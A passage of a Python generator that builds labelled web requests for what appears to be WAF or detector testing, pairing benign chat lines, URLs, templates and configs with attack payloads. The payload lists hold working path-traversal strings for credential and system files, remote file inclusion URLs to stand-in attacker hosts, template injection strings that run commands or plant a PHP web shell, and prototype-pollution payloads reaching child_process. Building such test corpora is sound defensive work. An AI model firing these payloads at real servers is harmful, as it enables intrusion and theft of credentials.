    ("encoded-traversal", "%252e%252e%255c%252e%252e%255cboot.ini"),
    ("encoded-traversal", "..%5c..%5c..%5cwindows%5csystem.ini"),
    ("encoded-traversal", "%uff0e%uff0e%u2215etc%u2215passwd"),
    ("encoded-traversal", "..%u2216..%u2216windows%u2216win.ini"),
    ("encoded-traversal", "%2E%2E/%2E%2E/%2E%2E/etc/passwd"),
    ("encoded-traversal", "..%2F..%2F..%2F..%2Fproc%2Fself%2Fcwd%2Fconfig.php"),
    ("overlong", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("overlong", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("nullbyte", "../../../etc/passwd%00.png"),
    ("nullbyte", "/etc/passwd%00"),
    ("nullbyte", "../../../../../../etc/passwd%2500"),
    ("nullbyte", "....//....//etc/passwd%00.pdf"),
    ("unix-file", "/etc/passwd"),
    ("unix-file", "/root/.ssh/id_rsa"),
    ("unix-file", "/etc/mysql/my.cnf"),
    ("unix-file", "/var/log/apache2/access.log"),
    ("proc", "/proc/self/environ"),
    ("proc", "/proc/self/cmdline"),
    ("proc", "../../../../proc/1/maps"),
    ("proc", "/proc/self/fd/7"),
    ("proc", "/proc/net/tcp"),
    ("windows-file", r"C:\Windows\System32\config\SAM"),
    ("windows-file", "C:/inetpub/wwwroot/web.config"),
    ("windows-file", r"..\..\..\..\..\boot.ini"),
    ("windows-file", r"c:\windows\repair\sam"),
    ("windows-file", "file:///c:/windows/win.ini"),
    ("windows-file", r"\\?\C:\Windows\win.ini"),
]

# --- remote file inclusion ---------------------------------------------------------------------------------------

RFI: list[tuple[str, str]] = [
    ("rfi-url", "http://evil.example.com/shell.txt?"),
    ("rfi-url", "https://evil.example.com/c99.txt?"),
    ("rfi-url", "http://attacker.example/payload.php%00"),
    ("rfi-url", "http://attacker.example/inc.txt#"),
    ("rfi-url", "hTTp://attacker.example/x.txt?"),
    ("rfi-url", "https://pastebin.example/raw/Xy12?"),
    ("rfi-url", "http:%2F%2Fevil.example.com%2Fs.txt%3F"),
    ("rfi-url", "index.php?page=http://evil.example.net/x.txt?"),
    ("rfi-url", "http://evil.example/x.txt???"),
    ("rfi-url", "https://example.org.evil.example/inc/config.txt?"),
    ("rfi-url", "http://attacker.example/?.php"),
    ("rfi-url", "http://oob.example.net/rfi-probe.txt?"),
    ("rfi-url", "http://localhost.example.com@evil.example.org/s.txt?"),
    ("rfi-url", "http://evil.example.com/evil.tpl#.html"),
    ("rfi-ip", "http://198.51.100.12/shell.txt?"),
    ("rfi-ip", "http://203.0.113.66/r57.txt#"),
    ("rfi-ip", "http://192.0.2.8:8080/inc.txt?x="),
    ("rfi-ip", "http://3325256824/shell.txt"),
    ("rfi-ip", "http://0xc6336478/inc.txt"),
    ("rfi-ip", "http://[2001:db8::66]/x.txt?"),
    ("rfi-ip", "https://10.13.37.1/rce.php?cmd=id&"),
    ("rfi-ip", "http://198.51.100.19/test.txt%3F"),
    ("rfi-proto", "ftp://anonymous:x@198.51.100.14/pub/shell.php"),
    ("rfi-proto", r"\\198.51.100.15\share\shell.php"),
    ("rfi-proto", "smb://10.0.0.8/public/inc.php"),
    ("rfi-proto", "ftps://203.0.113.71/x.php"),
    ("rfi-proto", "file://198.51.100.20/share/s.php"),
    ("rfi-proto", "//evil.example.com/share/inc.php"),
]

# --- server-side template injection ------------------------------------------------------------------------------

SSTI: list[tuple[str, str]] = [
    ("jinja2", "{{7*7}}"),
    ("jinja2", "{{config.items()}}"),
    ("jinja2", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja2", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja2", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja2", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
               "{{c()._module.__builtins__['__import__']('os').system('id')}}{% endif %}{% endfor %}"),
    ("jinja2", "{{lipsum.__globals__['os'].popen('id').read()}}"),
    ("jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2", r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}"),
    ("jinja2", "{{ url_for.__globals__['current_app'].config }}"),
    ("jinja2", "Hi {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("twig", "{{['id']|filter('system')}}"),
    ("twig", "{{['cat /etc/passwd']|map('passthru')}}"),
    ("twig", "{{7*'7'}}"),
    ("twig", "{{app.request.server.all|join(',')}}"),
    ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("freemarker", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()"
                   ".resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
    ("freemarker", "[#assign x='freemarker.template.utility.ObjectConstructor'?new()]"
                   "${x('java.lang.ProcessBuilder','id').start()}"),
    ("velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))"),
    ("velocity", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')"),
    ("velocity", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
                 ".invoke(null,null).exec(\"id\")"),
    ("erb", "<%= 7*7 %>"),
    ("erb", "<%= `id` %>"),
    ("erb", "<%= system('cat /etc/passwd') %>"),
    ("erb", "<%= File.open('/etc/passwd').read %>"),
    ("erb", "<%= IO.popen('ls /').readlines() %>"),
    ("smarty", "{system('id')}"),
    ("smarty", "{php}echo `id`;{/php}"),
    ("smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\","
               "self::clearConfig())}"),
    ("smarty", "{$smarty.version}"),
    ("smarty", "{if system('id')}{/if}"),
    ("handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
                   "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as "
                   "|codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}"
                   "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}"
                   "{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("handlebars", "{{lookup (lookup this 'constructor') 'constructor'}}"),
    ("thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("thymeleaf", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream())"
                  ".next()}__::..x"),
    ("thymeleaf", "[[${T(java.lang.System).getenv()}]]"),
    ("thymeleaf", "[(${T(java.lang.Runtime).getRuntime().exec('whoami')})]"),
    ("mako", "${self.module.cache.util.os.system('id')}"),
    ("tornado", "{% import os %}{{os.popen('id').read()}}"),
]

FAMILIES: dict[str, list[tuple[str, str]]] = {
    "rce": RCE, "java": JAVA, "generic": GENERIC, "lfi": LFI, "rfi": RFI, "ssti": SSTI}

NAMES: dict[str, list[str]] = {
    "rce": ["host", "ip", "domain", "filename", "cmd", "target", "search", "email", "address", "dir"],
    "java": ["username", "q", "redirect", "action", "message", "lang", "sort", "expression", "data", "template"],
    "generic": ["url", "callback", "webhook", "image_url", "filter", "code", "next", "feed", "data", "expr"],
    "lfi": ["file", "page", "path", "doc", "template", "download", "lang", "include", "view", "attachment"],
    "rfi": ["page", "include", "file", "url", "module", "template", "src", "load"],
    "ssti": ["name", "greeting", "template", "subject", "message", "title", "preview", "signature"],
}

# prototype pollution in the structure itself: query keys, JSON keys
POLLUTION_QUERIES = [
    "__proto__[isAdmin]=true",
    "__proto__.isAdmin=1",
    "constructor[prototype][role]=admin",
    "constructor.prototype.polluted=yes",
    "a[__proto__][admin]=1",
    "%5f%5fproto%5f%5f%5bisAdmin%5d=true",
    "user[__proto__][isAdmin]=true&user[name]=ann",
    "__pro__proto__to__[x]=1",
    "__proto__[argv0]=node&__proto__[NODE_OPTIONS]=--require%20%2Fproc%2Fself%2Fenviron",
    "__proto__[outputFunctionName]=_tmp1%3Bglobal.process.mainModule.require(%27child_process%27)"
    ".execSync(%27id%27)%3Bvar%20__tmp2",
    "__proto__[sourceURL]=%0Areturn%20e%3D%3E%7Breturn%20global.process.mainModule.constructor"
    "._load(%27child_process%27).execSync(%27id%27)%7D",
    "filter[constructor][prototype][status]=510",
]
POLLUTION_JSON: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"user": {"name": "ann", "__proto__": {"role": "admin"}}},
    {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');s"}},
    {"settings": {"__proto__": {"shell": "/proc/self/exe",
                                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                                "NODE_OPTIONS": "--require /proc/self/cmdline"}}},
    {"__proto__": {"json spaces": 10}},
    {"__proto__": {"status": 510}},
    {"prefs": {"constructor": {"prototype": {"polluted": "yes"}}}},
    {"a": {"__proto__": {"toString": "boom"}}},
    {"__proto__": {"exposedHeaders": ["x-polluted"]}},
]

OTHER_PLACES = ["path", "param-name", "user-agent", "referer", "multipart-filename", "multipart-field", "xml",
                "json-escaped"]
OTHER_STEP = 7   # every 7th payload of each family goes again into one of OTHER_PLACES
BOUNDARY = "----WebKitFormBoundaryq3X8ZfT1b9LkR2aW"


def _multipart(uri: str, parts: list[tuple[str, str | None, str]], ua: str = UA) -> dict[str, Any]:
    """A browser's multipart/form-data POST: (field name, file name or None, content) each."""
    chunks = []
    for name, filename, content in parts:
        disp = f'form-data; name="{name}"'
        head = f"Content-Disposition: {disp}\r\n"
        if filename is not None:
            fname = filename.replace('"', "%22").replace("\r", " ").replace("\n", " ")
            head = f'Content-Disposition: {disp}; filename="{fname}"\r\nContent-Type: application/octet-stream\r\n'
        chunks.append(f"--{BOUNDARY}\r\n{head}\r\n{content}\r\n")
    body = "".join(chunks) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": ua, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _xml(uri: str, field: str, value: str, raw: bool = False) -> dict[str, Any]:
    inner = value if raw else f"<{field}>{xml_escape(value)}</{field}>"
    body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><email>a@example.org</email><name>Ann</name>'
            f"{inner}</user>")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _json_escaped(field: str, value: str) -> dict[str, Any]:
    """A JSON body whose string value spells every non-alphanumeric character as a \\uXXXX escape."""
    spelled = "".join(c if c.isalnum() and c.isascii() else f"\\u{ord(c):04x}" for c in value)
    body = '{"email": "a@example.org", "' + field + '": "' + spelled + '"}'
    return {**_json("/api/users", {}), "body": body}


def _header_value(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ")


def _other(place: str, name: str, value: str, sub: str) -> dict[str, Any]:
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(value, safe=""))
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if place == "user-agent":
        return {**_get("/api/users?page=1"),
                "headers": {"User-Agent": _header_value(value), "Accept": "application/json"}}
    if place == "referer":
        return {**_get("/api/users?page=2"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                         "Referer": _header_value(value)}}
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", [("avatar", value, "GIF89a....")])
    if place == "multipart-field":
        return _multipart("/api/users/42/documents", [(name, None, value), ("document", "notes.txt", "notes")])
    if place == "xml":
        return _xml("/api/users", name, value, raw=sub == "deserialization" and value.startswith("<"))
    return _json_escaped(name, value)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for family, payloads in FAMILIES.items():
        names = NAMES[family]
        for i, (sub, p) in enumerate(payloads):
            for place, name in three_places(i, names):
                n += 1
                yield {**_place(place, name, p), "id": f"tenth-{family}-{n:04d}", "category": family,
                       "sub": sub, "placement": place, "payload": p}
            if i % OTHER_STEP == 3:
                place = OTHER_PLACES[k % len(OTHER_PLACES)]
                k += 1
                if place == "path" and ".." in p:   # nginx would resolve it above the root and answer 400 itself
                    place = "param-name"
                n += 1
                yield {**_other(place, names[i % len(names)], p, sub), "id": f"tenth-{family}-{n:04d}",
                       "category": family, "sub": sub, "placement": place, "payload": p}
    for i, qs in enumerate(POLLUTION_QUERIES):
        for j, path in enumerate(("/api/users?", "/api/users/42?page=2&")):
            yield {**_get(path + qs), "id": f"tenth-generic-pq{i:02d}-{j}", "category": "generic",
                   "sub": "pollution", "placement": "query-key", "payload": qs}
    for i, doc in enumerate(POLLUTION_JSON):
        for j, uri in enumerate(("/api/users", "/api/users/42")):
            yield {**_json(uri, doc), "id": f"tenth-generic-pj{i:02d}-{j}", "category": "generic",
                   "sub": "pollution", "placement": "json-key", "payload": json.dumps(doc)}


# --- benign ------------------------------------------------------------------------------------------------------

CHAT = [
    "can someone run `sudo systemctl restart nginx` on web-03? I don't have sudo there",
    "fwiw `ps aux | grep java | grep -v grep` shows two JVMs on the box, one is the old one",
    "Exception in thread \"main\" java.lang.NullPointerException\n\tat com.acme.billing.InvoiceService.total("
    "InvoiceService.java:88)\n\tat com.acme.billing.Main.main(Main.java:14)",
    "just do `curl -sS https://api.example.com/health | jq .status`",
    "the cron is `0 3 * * * /opt/backup/run.sh >> /var/log/backup.log 2>&1`",
    "I think /etc/passwd got a duplicate entry for the deploy user, check with `getent passwd deploy`",
    "Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver",
    "on windows use `dir /s *.log` or in powershell `Get-ChildItem -Recurse -Filter *.log`",
    "try `kubectl exec -it api-7d9f -- /bin/sh` and then cat the config",
    "log4j is on 2.17.1 everywhere now, so the ${jndi:...} lookups are off",
    "`find . -name '*.tmp' -mtime +7 -delete` cleared about 40G",
    "who has the ssh key for bastion? `ssh -J bastion.internal app-01` is timing out",
    "java.lang.OutOfMemoryError: Java heap space - bump -Xmx to 4g in JAVA_OPTS",
    "at org.springframework.beans.factory.support.AbstractAutowireCapableBeanFactory.createBean("
    "AbstractAutowireCapableBeanFactory.java:542)",
    "run `tail -f /var/log/syslog | grep -i error` while I redeploy",
    "`docker ps -a --filter status=exited | wc -l` says 213, prune time",
    "for the record: `echo $PATH` on the runner is missing /usr/local/bin",
    "`nc -zv db-01 5432` works from the app host, so it's not the firewall",
    "`cat ~/.kube/config` and paste the server line (not the token!)",
    "if ping fails try `traceroute 10.2.0.15`",
    "the powershell one-liner is `Get-Service | Where-Object {$_.Status -eq 'Running'}`",
    "ProcessBuilder in the importer still shells out to `convert` for thumbnails, we should switch to the lib",
    "we call Runtime.getRuntime().exec() only in the legacy exporter, OPS-1422 removes it",
    "the webhook tester must never fetch 169.254.169.254, I added the metadata range to the denylist",
    "prod DB: `psql -h db-01 -U app -c 'select count(*) from orders'`",
    "grab the release with wget and then `tar xzf node_exporter-1.8.1.linux-amd64.tar.gz`",
    "lol someone uploaded a file literally named `; rm -rf` to the bucket",
    "I'll ping you when the build is green",
    "the welcome mail uses {{ user.first_name }} so make sure the field is filled",
    "python one-liner: `python3 -c 'import json,sys; print(json.load(sys.stdin)[\"id\"])'`",
    "in node `require('fs').readFileSync` blocks the loop, use fs/promises instead",
    r"C:\Program Files\Java\jdk-17\bin\java.exe -jar app.jar --spring.profiles.active=prod",
    "the error is `bash: /usr/bin/python: No such file or directory` after the upgrade",
    "set `JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64` in /etc/environment",
    "nginx config test: `nginx -t && systemctl reload nginx`",
    "`chmod 600 ~/.ssh/id_ed25519` fixed the 'unprotected private key' warning",
    r"`net use Z: \\fileserver\shared /persistent:yes` on the new laptops",
    "`ipconfig /flushdns` helped on my windows box",
    "ha, `whoami` on the jump host says root, that's not great",
    "the heap dump is in /tmp/java_pid4123.hprof, about 3GB",
    "java.lang.IllegalStateException: Connection pool shut down\n\tat org.apache.http.util.Asserts.check("
    "Asserts.java:34)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
    "SEVERE: Servlet.service() for servlet [dispatcherServlet] threw exception",
    "com.fasterxml.jackson.databind.exc.InvalidDefinitionException: Cannot construct instance of "
    "`com.acme.Order` (no Creators, like default constructor, exist)",
    "ognl warnings in the struts app logs again, it's the old admin module",
    "the JSF page computes `#{order.total * 1.2}` for the gross price",
    "set `spring.jpa.show-sql=true` temporarily and tail the log",
    "grep for ERROR in /var/log/app/*.log since 02:00",
    "`sudo -u postgres pg_dump app > /backup/app-$(date +%F).sql` runs nightly",
    "`for f in *.csv; do wc -l \"$f\"; done`",
    "`xargs -n1 -P4 curl -sO < urls.txt` is way faster",
    "`awk '{print $1}' access.log | sort | uniq -c | sort -rn | head`",
    "`sed -i 's/old-host/new-host/g' /etc/hosts` on all three",
    "`sudo mount -t cifs //nas/backups /mnt/backups -o credentials=/root/.smbcred`",
    "`scp build.tar.gz deploy@10.0.3.7:/opt/releases/`",
    "`bash -x ./deploy.sh` shows it dies at the migrate step",
    "our reverse proxy forwards to http://10.0.2.15:8080 internally",
    "don't paste secrets here, use `vault kv get secret/app`",
    "`certutil -hashfile setup.exe SHA256` matches the vendor's checksum",
    "`Invoke-WebRequest -Uri https://download.example.com/agent.msi -OutFile agent.msi` then "
    "`msiexec /i agent.msi /qn`",
    r"`type C:\ProgramData\agent\agent.log | findstr ERROR`",
    "`wmic logicaldisk get size,freespace,caption` on the old server",
    "`tasklist | findstr java` shows 3 processes",
    "Maven: `mvn -DskipTests package` then `java -jar target/app.jar`",
    "the jenkins groovy step does `\"git rev-parse HEAD\".execute().text` for the build number",
    "Ruby folks: `bundle exec rails c` then `User.find_by(email: 'x@example.com')`",
    "python: `subprocess.run(['ls', '-la'], check=True)` is the safe way, no shell=True",
    "`eval $(ssh-agent)` then ssh-add",
    "`export $(grep -v '^#' .env | xargs)` before starting it locally",
    "`cat /proc/meminfo | head -3` shows 2G free",
    "`ls /proc/$(pgrep -f app.jar)/fd | wc -l` for the open files",
    "`echo 'test' | nc -u 10.0.0.5 514` to test syslog",
    "`curl -X POST -H 'Content-Type: application/json' -d '{\"text\":\"hi\"}' $WEBHOOK_URL`",
    "`openssl s_client -connect api.example.com:443 -servername api.example.com`",
    "`dig +short mx example.com`",
    "`journalctl -u app --since '1 hour ago'`",
    "`iptables -L -n -v | grep 8080`",
    "Thread dump: \"http-nio-8080-exec-7\" #41 daemon prio=5 os_prio=0 tid=0x00007f waiting on condition",
    "the template engine is freemarker, ${user.name} is null for guests so use ${user.name!\"guest\"}",
    "kill -9 it, it ignores SIGTERM",
    "at sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)\n"
    "at java.lang.reflect.Method.invoke(Method.java:498)",
]

URLS = [
    "https://www.google.com/search?q=how+to+use+grep+-r&hl=en",
    "https://stackoverflow.com/questions/4037939/powershell-says-execution-of-scripts-is-disabled-on-this-system",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://github.com/spring-projects/spring-framework/issues/28261",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/reports/2024/q3.pdf?download=1",
    "https://shop.example.com/products?category=shoes&size=42&sort=price_asc",
    "https://maps.google.com/?q=52.5200,13.4050",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://nodejs.org/api/child_process.html#child_processexecsynccommand-options",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://en.wikipedia.org/wiki/Cat_(Unix)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://www.amazon.com/dp/B08N5WRWNW?ref=ppx_yo2ov_dt_b_product_details&th=1",
    "https://calendar.google.com/calendar/render?action=TEMPLATE&text=Standup"
    "&dates=20240611T090000Z/20240611T091500Z",
    "https://zoom.us/j/1234567890?pwd=abcDEF123",
    "https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing",
    "https://github.com/acme/infra/blob/main/scripts/deploy.sh#L10-L24",
    "https://gitlab.example.com/ops/infra/-/merge_requests/42/diffs?commit_id=abc123",
    "https://grafana.example.com/d/abc/nginx?orgId=1&from=now-6h&to=now&var-host=web-01",
    "https://kibana.example.com/app/discover#/?_g=(time:(from:now-15m,to:now))"
    "&_a=(query:(language:kuery,query:'level:error'))",
    "https://sentry.io/organizations/acme/issues/?query=is%3Aunresolved+NullPointerException",
    "https://mvnrepository.com/artifact/org.apache.logging.log4j/log4j-core/2.17.1",
    "https://www.npmjs.com/package/lodash?activeTab=versions",
    "https://pypi.org/project/requests/#history",
    "https://rubygems.org/gems/rails/versions/7.1.3",
    "https://hub.docker.com/_/nginx?tab=tags&name=1.25",
    "https://regex101.com/?regex=%5E%5Cd%2B%24&flavor=pcre",
    "https://www.bing.com/search?q=windows+cmd+dir+%2Fs",
    "https://duckduckgo.com/?q=bash+for+loop+over+files&ia=web",
    "https://example.org/wiki/index.php?title=Main_Page&action=edit",
    "https://forum.example.com/viewtopic.php?f=12&t=3456#p7890",
    "https://news.ycombinator.com/item?id=29357063",
    "https://twitter.com/search?q=%23log4j&src=typed_query",
    "https://docs.python.org/3/library/subprocess.html#subprocess.run",
    "https://ruby-doc.org/core-3.1.2/Kernel.html#method-i-system",
    "https://handlebarsjs.com/guide/#what-is-handlebars",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html#standard-expression-syntax",
    "ftp://ftp.gnu.org/gnu/bash/",
    "https://cdn.example.com/assets/app.js?v=3.2.1",
    "https://example.com/unsubscribe?email=ann%40example.com&token=9f8e7d",
]

PROSE = [
    "the cat command",
    "ping me when you're back",
    "how to kill a process on windows",
    "echo chamber",
    "reports/2024/q3.pdf",
    r"C:\Users\jsmith\Documents\budget.xlsx",
    "error in /var/log/nginx/error.log",
    "java developer",
    "Hello {{name}}",
    "shell company",
    "who am i",
    "python developer with Django and Flask",
    "order #1234 & #1235",
    "Smith & Wesson",
    "AT&T; Verizon",
    "ls -la",
    "cost $5 (approx)",
    "find and grep tutorial",
    "wget vs curl",
    "powershell training",
    "template engine Jinja2 vs Twig",
    "log4j vulnerability",
    "sleep 8 hours",
    "system administrator",
    "exec assistant",
    "runtime error",
    "class notes",
    "process builder",
    "dir. of engineering",
    "Hi ${firstName}, your order shipped",
    "user@example.com; admin@example.com",
    "O'Reilly | Java in a Nutshell",
    "The Unix Programming Environment (Kernighan & Pike)",
    "kill -9 vs kill -15",
    "R&D; Sales; Ops",
    "type: invoice",
    "copy of contract (final) v2",
    "set up 2FA",
    "Windows 11 upgrade issues",
    "node.js require vs import",
    "net income 2023",
    "where is my order?",
    "id card replacement",
    "Ruby on Rails | Python | Java",
    "the `tail -f` trick",
    "pipe fitting 1/2\"",
    "rm 204 building B",
    "Jane's bash (birthday party)",
    "cmd+shift+4 screenshot",
    "SSRF training slides",
    "path to C:\\temp",
    "file not found: settings.json",
    "curl | jq cheat sheet",
    "uname & password reset",
    "meeting @ 10:30; agenda TBD",
]

FILES = [
    "reports/2024/q3.pdf",
    r"C:\Users\mgarcia\Desktop\invoice_0423.pdf",
    "~/Documents/taxes 2023.xlsx",
    "/home/dev/projects/app/src/main.py",
    "Q3 report (final) v2.docx",
    "IMG_20240612_183045.jpg",
    "scan0001.tif",
    "backup-2024-06-01.tar.gz",
    r"\\fileserver\finance\2024\budget.xlsx",
    r"D:\Projects\Web\index.html",
    "My Resume - Jane Doe.pdf",
    "setup.exe",
    "install.sh",
    "docker-compose.yml",
    "config/settings.yaml",
    "/Users/kim/Library/Application Support/Code/User/settings.json",
    "photo (1).jpeg",
    "résumé_final.pdf",
    "data_export_2024-06-30.csv",
    r"C:\Program Files (x86)\Microsoft Office\root\Office16\EXCEL.EXE",
    "notes.txt",
    "README.md",
    "project/src/components/Button.tsx",
    "logs/app-2024-06-01.log",
    "~/.bashrc",
    r"%USERPROFILE%\Downloads\report.pdf",
    "../images/diagram.png",
    "/var/www/html/index.html",
    "contract_signed (2).PDF",
    "2024-07 Offsite/agenda & logistics.docx",
]

TEMPLATES = [
    "Hello {{name}},\n\nThanks for joining us!",
    "Hi {{ first_name | default('there') }}, your order #{{ order.id }} has shipped.",
    "{% if user.is_premium %}Enjoy your premium perks!{% endif %}",
    "Dear ${customer.name}, your invoice ${invoice.number} is due on ${invoice.dueDate}.",
    "<p>Hi *|FNAME|*,</p><p>Here is your weekly digest.</p>",
    "Hello %FIRSTNAME%, see you at the conference!",
    "<ul>{{#each items}}<li>{{this.title}} - {{this.price}}</li>{{/each}}</ul>",
    "<%= @user.name %>, welcome back!",
    "Your code is {{code}}. It expires in {{ttl}} minutes.",
    "{{> footer}}",
    "#if($user)Hi $user.name#end",
    "<p th:text=\"${user.name}\">Hi [[${user.name}]]</p>",
    "Hello {$name}, your ticket {$ticket_id} was updated.",
    "<#if user??>Hi ${user.firstName}</#if>",
    "{{ 'Unsubscribe' | link_to: unsubscribe_url }}",
    "Total: {{ total | currency }}",
    "{{{raw_html_block}}}",
    "{% for post in posts %}<h2>{{ post.title }}</h2>{% endfor %}",
    "Use {{ and }} around a field to insert it, e.g. {{company}}.",
    "Hi {name}, your balance is {balance}.",
    "<a href=\"{{unsubscribe_url}}\">Unsubscribe</a>",
    "{{ user.name|title }} - {{ now|date:'F j' }}",
    "Hello ${name}!",
    "#{first_name}, you have #{count} new messages",
    "Happy {{ season }} from all of us at {{ company.name }}!",
]

CONFIGS: list[Any] = [
    {"build": {"command": "npm run build && npm test", "output": "dist/"}},
    {"cron": "*/5 * * * *", "script": "/opt/jobs/sync.sh", "timeout": 300},
    {"logging": {"level": "INFO", "pattern": "%d{yyyy-MM-dd HH:mm:ss} %-5level %logger{36} - %msg%n",
                 "file": "/var/log/app/app.log"}},
    {"webhook": {"url": "https://hooks.slack.com/services/T000/B000/XXXX", "events": ["push", "merge"]}},
    {"java": {"opts": "-Xms512m -Xmx2g -XX:+UseG1GC", "home": "/usr/lib/jvm/java-17"}},
    {"paths": {"windows": r"C:\ProgramData\Acme\config.ini", "linux": "/etc/acme/config.ini"}},
    {"scripts": {"start": "node server.js", "test": "jest --coverage", "lint": "eslint . --ext .ts"}},
    {"docker": {"image": "nginx:1.25-alpine", "cmd": ["nginx", "-g", "daemon off;"]}},
    {"healthcheck": {"test": ["CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"], "interval": "30s"}},
    {"spring": {"datasource": {"url": "jdbc:postgresql://db:5432/app", "username": "app"}}},
    {"editor": {"tabSize": 2, "files.exclude": {"**/.git": True, "**/node_modules": True}}},
    {"proxy": {"upstream": "http://10.0.2.15:8080", "timeout_ms": 5000}},
    {"notifications": {"template": "Hi {{name}}, build {{build.id}} {{status}}"}},
    {"shell": "/bin/bash", "env": {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "en_US.UTF-8"}},
    {"backup": {"command": "pg_dump -Fc app > /backups/app.dump", "keep_days": 14}},
    {"powershell": {"executionPolicy": "RemoteSigned",
                    "profile": r"C:\Users\admin\Documents\PowerShell\profile.ps1"}},
    {"feature_flags": {"new_checkout": True, "beta_search": False}},
    {"i18n": {"greeting": "Hello, {name}!", "farewell": "Bye, ${name}"}},
    {"deploy": "rsync -avz --delete ./dist/ deploy@web-01:/var/www/app/"},
    {"ansible": {"cmd": "ansible-playbook -i inventory/prod site.yml --limit web"}},
]

AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
